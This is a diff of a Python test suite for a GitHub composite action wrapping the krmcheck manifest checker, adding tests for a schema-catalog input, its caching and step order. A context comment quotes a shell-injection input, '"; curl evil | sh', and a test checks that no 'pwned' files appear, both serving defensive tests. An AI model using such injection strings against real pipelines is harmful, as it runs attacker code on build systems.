@@ -42,7 +42,7 @@ class StepRun(NamedTuple):
 def test_is_a_composite_action_with_the_documented_inputs() -> None:
     assert ACTION["runs"]["using"] == "composite"
     defaults = {name: spec.get("default") for name, spec in ACTION["inputs"].items()}
-    assert defaults == {"paths": ".", "args": "", "fail-on": "", "junit": "", "sarif": ""}
+    assert defaults == {"paths": ".", "args": "", "fail-on": "", "junit": "", "sarif": "", "schema-catalog": "auto"}
 
 
 def test_outputs_come_from_the_run_step() -> None:
@@ -59,8 +59,9 @@ def test_no_expression_is_interpolated_into_a_script() -> None:
     # it: an input holding `"; curl evil | sh` would run. Inputs travel in env.
     for step in ACTION["runs"]["steps"]:
         assert "${{" not in step.get("run", ""), step.get("name")
-        assert step.get("shell") == "bash", step.get("name")
-    assert set(input_env({}).values()) == set(_defaults().values())
+        assert step.get("shell") == "bash" or "uses" in step, step.get("name")
+    catalog = {name for name in ACTION["inputs"] if name == "schema-catalog"}
+    assert set(input_env({}).values()) == {v for k, v in _defaults().items() if k not in catalog}
 
 
 def _defaults() -> dict[str, str]:
@@ -207,3 +208,56 @@ def test_inputs_cannot_inject_shell(tmp_path: Path, shim: Path) -> None:
     assert not list(workspace.glob("pwned*")) and not list(tmp_path.glob("pwned*"))
     # The hostile words arrive as literal (missing) paths: a usage error.
     assert result.status == 2, result.stdout
+
+
+# --- the schema catalog: pulled once, cached by the pinned commit ---------------------------------
+
+CATALOG_STEP = STEPS["catalog"]
+
+
+def catalog_step(workspace: Path, tmp_path: Path, choice: str) -> tuple[int, dict[str, Any], str]:
+    outputs = tmp_path / "catalog_output"
+    outputs.write_text("")
+    script = tmp_path / "catalog.sh"
+    script.write_text(CATALOG_STEP["run"])
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "INPUT_"))}
+    env.update(KRMCHECK_SCHEMA_CATALOG=choice, GITHUB_OUTPUT=str(outputs), XDG_CACHE_HOME=str(tmp_path / "cache"),
+               PYTHONPATH=str(PROJECT), PATH=f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', '')}")
+    done = subprocess.run([*BASH, str(script)], cwd=workspace, env=env, capture_output=True, text=True, timeout=60)
+    return done.returncode, step_outputs(outputs.read_text()), done.stdout + done.stderr
+
+
+def _git_repository(path: Path, files: dict[str, str]) -> Path:
+    for name, text in files.items():
+        (path / name).parent.mkdir(parents=True, exist_ok=True)
+        (path / name).write_text(text)
+    subprocess.run(["git", "init", "-q", str(path)], check=True)
+    subprocess.run(["git", "-C", str(path), "add", "-A"], check=True)
+    return path
+
+
+@needs_bash
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_the_catalog_is_wanted_where_the_repository_holds_controller_objects(tmp_path: Path) -> None:
+    from krmcheck.schemas.catalog import DEFAULT_REF
+
+    flux = _git_repository(tmp_path / "flux", {"clusters/prod/apps.yaml": (
+        "apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: {name: apps}\n")})
+    plain = _git_repository(tmp_path / "plain", {"app/cm.yaml": "apiVersion: v1\nkind: ConfigMap\n"})
+    code, out, _ = catalog_step(flux, tmp_path, "auto")
+    assert code == 0 and out["pull"] == "true"
+    assert out["key"] == f"krmcheck-schema-catalog-{DEFAULT_REF}"  # a new pin is a new cache entry
+    assert out["dir"] == str(tmp_path / "cache" / "krmcheck" / "schemas" / "catalogs")  # where pull writes
+    assert catalog_step(plain, tmp_path, "auto")[1]["pull"] == "false"
+    assert catalog_step(plain, tmp_path, "on")[1]["pull"] == "true"
+    assert catalog_step(flux, tmp_path, "off")[1]["pull"] == "false"
+    code, _, said = catalog_step(flux, tmp_path, "sometimes")
+    assert code == 2 and "schema-catalog must be auto, on or off" in said
+
+
+def test_the_catalog_is_restored_pulled_on_a_miss_and_saved_before_the_check() -> None:
+    order = [step.get("id") or step.get("name") for step in ACTION["runs"]["steps"]]
+    assert order.index("catalog") < order.index("catalog-cache") < order.index("pull") < order.index("krmcheck")
+    restore, save = STEPS["catalog-cache"], next(s for s in ACTION["runs"]["steps"] if "cache/save" in s.get("uses", ""))
+    assert restore["uses"].startswith("actions/cache/restore@") and restore["with"] == save["with"]
+    assert "cache-hit != 'true'" in STEPS["pull"]["if"] and STEPS["pull"]["run"] == "krmcheck schemas pull"
